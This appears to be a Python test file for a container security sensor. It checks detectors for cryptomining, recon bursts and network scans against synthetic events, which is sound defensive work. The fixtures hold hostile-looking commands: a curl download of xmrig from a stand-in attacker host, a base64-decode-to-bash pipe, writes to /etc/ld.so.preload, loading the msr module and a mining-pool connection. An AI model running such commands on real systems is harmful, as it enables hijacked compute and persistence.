"""The stateful MAM-RT detectors (RT-012 mining, RT-035 recon burst, RT-042 scan) on synthetic
event sequences: the positive case, the negatives (too few, other containers, outside the
window), one alert per window, and bounded state."""

from __future__ import annotations

from collections.abc import Iterable

from mamori.core.events import Event
from mamori.core.findings import Alert
from mamori.core.severity import Severity
from mamori.rules.ruleset import RuleMatching
from mamori.sensor.correlate import (
    MINING_RULE,
    RECON_RULE,
    SCAN_RULE,
    DistinctBurst,
    MiningBehavior,
    ReconBurst,
    ScanBurst,
    indicator_ruleset,
    stateful_detectors,
)
from mamori.sensor.rules_detector import DEFAULT_RULES, load_rules
from tests.rules.rt_events import connect, container, exec_, open_

RULESET = load_rules([DEFAULT_RULES], RuleMatching.FIRST)
A, B = container("a"), container("b")


def _run(detector: object, events: Iterable[Event]) -> list[Alert]:
    out: list[Alert] = []
    for e in events:
        out.extend(detector.detect(e))  # type: ignore[attr-defined]
    return out


def _mining() -> MiningBehavior:
    return MiningBehavior(indicator_ruleset(RULESET))


# -- RT-012 -------------------------------------------------------------------------------


def test_indicator_ruleset_holds_the_five_indicator_detections() -> None:
    ids = {t for r in indicator_ruleset(RULESET).rules for t in r.tags if t.startswith("mamori.")}
    assert ids == {"mamori.MAM-RT-020", "mamori.MAM-RT-025", "mamori.MAM-RT-032",
                   "mamori.MAM-RT-046", "mamori.MAM-RT-047"}  # fmt: skip


def test_two_indicators_in_one_container_raise_one_high_alert() -> None:
    events = [
        exec_("/sbin/modprobe msr allow_writes=on", at_s=0, where=A),
        open_("/etc/ld.so.preload", ("O_WRONLY", "O_CREAT"), "touch", at_s=5, where=A),
        exec_("curl -sO http://attacker/xmrig", at_s=10, where=A),
        exec_("./xmrig", at_s=20, where=A, extra={"mamori.drift.verdict": "drift-new"}),
    ]
    alerts = _run(_mining(), events)
    assert [a.rule for a in alerts] == [MINING_RULE]
    (alert,) = alerts
    assert alert.severity is Severity.CRITICAL
    assert "mamori.MAM-RT-012" in alert.tags
    assert alert.fields["mamori.correlated"] == ["MAM-RT-046", "MAM-RT-047"]
    assert alert.fields["container.id"] == A.short_id
    # The same sequence replayed gives the same alert id.
    assert [a.id for a in _run(_mining(), events)] == [alert.id]


def test_indicator_hidden_by_first_match_still_counts() -> None:
    # Under first-match an exec could be claimed by an earlier rule; the detector matches all.
    ev = exec_(["sh", "-c", "echo x | base64 -d | bash; ./xmrig -o stratum+tcp://p:3333"], where=A)
    assert _run(_mining(), [ev, connect("203.0.113.9", 3333, "xmrig", where=A, at_s=1)])


def test_repeats_of_one_indicator_raise_nothing() -> None:
    events = [exec_("./xmrig", at_s=i, where=A) for i in range(10)]
    assert _run(_mining(), events) == []


def test_indicators_in_different_containers_raise_nothing() -> None:
    events = [exec_("./xmrig", where=A), exec_("touch /etc/ld.so.preload", at_s=1, where=B)]
    assert _run(_mining(), events) == []


def test_indicators_outside_the_window_raise_nothing() -> None:
    events = [exec_("./xmrig", where=A), exec_("touch /etc/ld.so.preload", at_s=601, where=A)]
    assert _run(_mining(), events) == []


def test_pool_connect_is_an_indicator_and_quiet_after_alert() -> None:
    detector = _mining()
    events = [
        exec_("./xmrig", where=A),
        connect("203.0.113.9", 14444, "xmrig", "SUCCESS", at_s=30, where=A),
        exec_("touch /etc/ld.so.preload", at_s=60, where=A),  # quiet: same window
        exec_("/sbin/modprobe msr", at_s=700, where=A),  # the window is over: counting again
        exec_("touch /etc/ld.so.preload", at_s=710, where=A),
    ]
    alerts = _run(detector, events)
    assert [a.fields["mamori.correlated"] for a in alerts] == [
        ["MAM-RT-025", "mining-pool-connect"],
        ["MAM-RT-046", "MAM-RT-047"],
    ]


# -- RT-035 -------------------------------------------------------------------------------

RECON = ["whoami", "id", "uname -a", "hostname", "cat /etc/os-release", "ps aux"]


def test_five_distinct_recon_commands_raise_one_low_alert() -> None:
    events = [exec_(c, at_s=i, where=A) for i, c in enumerate(RECON)]
    alerts = _run(ReconBurst(), events)
    assert [a.rule for a in alerts] == [RECON_RULE]
    assert alerts[0].severity is Severity.NOTICE
    assert alerts[0].fields["mamori.correlated"] == [
        "whoami", "id", "uname", "hostname", "cat /etc/os-release"]  # fmt: skip
    assert "mamori.MAM-RT-035" in alerts[0].tags


def test_four_recon_commands_raise_nothing() -> None:
    events = [exec_(c, at_s=i, where=A) for i, c in enumerate(RECON[:4] * 3)]
    assert _run(ReconBurst(), events) == []


def test_recon_in_different_containers_or_spread_out_raises_nothing() -> None:
    split = [exec_(c, at_s=i, where=A if i % 2 else B) for i, c in enumerate(RECON)]
    assert _run(ReconBurst(), split) == []
    slow = [exec_(c, at_s=i * 20, where=A) for i, c in enumerate(RECON)]  # 3 per minute
    assert _run(ReconBurst(), slow) == []


def test_recon_alerts_once_per_window() -> None:
    burst = [exec_(c, at_s=i, where=A) for i, c in enumerate(RECON)]
    again = [exec_(c, at_s=10 + i, where=A) for i, c in enumerate(RECON)]
    later = [exec_(c, at_s=100 + i, where=A) for i, c in enumerate(RECON)]
    assert len(_run(ReconBurst(), burst + again + later)) == 2


def test_cat_of_other_files_is_not_recon() -> None:
    events = [exec_(f"cat /etc/file{i}", at_s=i, where=A) for i in range(10)]
    assert _run(ReconBurst(), events) == []


# -- RT-042 (stateful half) ------------------------------------------------------------------


def test_fifty_distinct_destinations_raise_one_scan_alert() -> None:
    events = [connect(f"10.0.{i // 200}.{i % 200}", 80 + i % 3, "python3 scan.py", at_s=i / 10,
                      where=A) for i in range(120)]  # fmt: skip
    alerts = _run(ScanBurst(), events)
    assert [a.rule for a in alerts] == [SCAN_RULE]
    assert alerts[0].severity is Severity.WARNING
    assert "mamori.MAM-RT-042" in alerts[0].tags


def test_scan_negatives() -> None:
    same = [connect("10.0.0.5", 443, where=A, at_s=i / 10) for i in range(200)]
    assert _run(ScanBurst(), same) == []
    few = [connect(f"10.0.0.{i}", 443, where=A, at_s=i / 10) for i in range(49)]
    assert _run(ScanBurst(), few) == []
    split = [connect(f"10.0.0.{i}", 443, where=A if i % 2 else B, at_s=i / 10) for i in range(90)]
    assert _run(ScanBurst(), split) == []
    slow = [connect(f"10.0.0.{i}", 443, where=A, at_s=i * 2) for i in range(100)]
    assert _run(ScanBurst(), slow) == []


# -- bounded state ------------------------------------------------------------------------


def test_state_is_bounded_per_container_and_in_containers() -> None:
    burst = DistinctBurst(threshold=50, window_s=60, max_containers=100)
    for i in range(1000):
        burst.add(f"c{i}", "k", i * 1_000_000)
    assert len(burst.states) <= 100
    for i in range(10_000):
        burst.add("one", f"k{i}", i * 1_000_000)
    assert all(len(s.seen) < 50 for s in burst.states.values())
    # Idle containers go once two windows have passed.
    burst.add("late", "k", 10**13)
    assert list(burst.states) == ["late"]


def test_stateful_detectors_say_which_fields_they_read() -> None:
    for detector in stateful_detectors(RULESET):
        fields = getattr(detector, "fields", None)
        assert fields
        assert not any(f.startswith(("proc.cwd", "user.loginuid")) for f in fields)


def test_sensor_cli_runs_the_stateful_detectors_next_to_the_rules() -> None:
    from mamori.cli.sensor import _detectors
    from mamori.sensor.rules_detector import RulesDetector

    detectors = _detectors("rules", None, False, RuleMatching.FIRST)
    assert [type(d) for d in detectors] == [RulesDetector, MiningBehavior, ReconBurst, ScanBurst]
    assert (
        _detectors("exec-log", None, False, RuleMatching.FIRST)[0].__class__.__name__ == "ExecLog"
    )
